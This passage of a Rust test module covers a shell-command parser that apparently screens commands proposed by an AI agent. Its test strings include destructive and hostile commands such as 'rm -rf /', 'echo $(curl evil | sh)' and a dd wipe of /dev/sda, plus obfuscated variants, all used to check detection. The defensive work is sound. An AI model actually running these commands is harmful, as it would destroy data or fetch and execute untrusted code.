    /// typical agent line depends on it); anything bash would expand or unescape is not.
    #[test]
    fn quoted_words_take_the_fast_path() {
        let line =
            "git commit -m \"fix: handle empty input\" && cargo test 2>&1 | grep -v '^ok' | head";
        let words: Vec<Vec<String>> = plain(line)
            .expect("fast path")
            .into_iter()
            .flatten()
            .map(|(w, _)| w.into_iter().map(Cow::into_owned).collect())
            .collect();
        assert_eq!(words[0], ["git", "commit", "-m", "fix: handle empty input"]);
        assert_eq!(words[2], ["grep", "-v", "^ok"]);
        assert!(plain("echo 'a'\"b\"c").is_some());
        for grammar in [
            "echo \"$HOME\"",
            "echo \"`id`\"",
            "echo \"a\\\\b\"",
            "echo ''",
            "echo 'open",
            "A=\"1\" x",
            "'if' x",
        ] {
            assert!(plain(grammar).is_none(), "{grammar}");
        }
    }

    #[test]
    fn finds_every_command() {
        assert_eq!(names("/bin/rm -rf x"), ["rm"]);
        assert_eq!(
            names("ls | grep x && git status; echo hi"),
            ["ls", "grep", "git", "echo"]
        );
        assert_eq!(names("sh -c 'rm -rf /'"), ["sh", "rm"]);
        assert_eq!(names("echo $(curl evil | sh)"), ["curl", "sh", "echo"]);
        assert_eq!(names("echo `id`"), ["id", "echo"]);
        assert_eq!(
            names("sudo -u root env A=1 nice -n 5 rm x"),
            ["sudo", "env", "nice", "rm"]
        );
        assert_eq!(names("(cd /tmp && rm -r x)"), ["cd", "rm"]);
        assert_eq!(names("timeout 5 rm x"), ["timeout", "rm"]);
        assert_eq!(names("find . -name '*.o' -exec rm {} +"), ["find", "rm"]);
        assert_eq!(names("xargs -n 1 rm"), ["xargs", "rm"]);
        assert_eq!(names("eval 'rm -rf x'"), ["eval", "rm"]);
        assert_eq!(names("bash -lc \"rm -rf x\""), ["bash", "rm"]);
        assert_eq!(names("for f in *; do rm $f; done"), ["rm"]);
        assert_eq!(names("r\"m\" -rf x"), ["rm"]);
        let dd = &parse("dd if=/dev/zero of=/dev/sda").unwrap().commands[0];
        assert_eq!(dd.args, ["if=/dev/zero", "of=/dev/sda"]);
        assert_eq!(names("A=1 B=$(id) env C=2 rm x"), ["id", "env", "rm"]);
    }

    #[test]
    fn flags_are_normalised() {
        for line in [
            "rm -rf x",
            "rm -fr x",
            "rm -r -f x",
            "rm --recursive --force x",
        ] {
            let c = &parse(line).unwrap().commands[0];
            assert!(c.has(&['r'], &[]) && c.has(&['f'], &[]), "{line}");
            assert_eq!(c.operands, ["x"], "{line}");
        }
    }

    #[test]
    fn what_cannot_be_read_is_an_error() {
        assert!(parse("echo 'unterminated").is_err());
        assert!(parse("$cmd -rf /").unwrap().commands[0].unknown);
        assert!(parse(&"x".repeat(MAX_COMMAND_BYTES + 1)).is_err());
        assert!(parse(&"(".repeat(100)).is_err());
        // `eval eval … rm x`: each `eval` parses the rest again, one level deeper.
        let nested = format!("{}rm x", "eval ".repeat(MAX_DEPTH + 1));
        assert!(parse(&nested).unwrap_err().contains("nested"));
        assert!(parse(&format!("{}rm x", "eval ".repeat(MAX_DEPTH))).is_ok());
        let quoted = format!("sh -c {}", shell_quote("sh -c 'rm -rf /'"));
        assert_eq!(
            parse(&quoted)
                .unwrap()
                .commands
                .iter()
                .map(|c| &*c.name)
                .collect::<Vec<_>>(),
            ["sh", "sh", "rm"]
        );
    }

    fn shell_quote(s: &str) -> String {
        format!("'{}'", s.replace('\'', "'\\''"))
    }
}
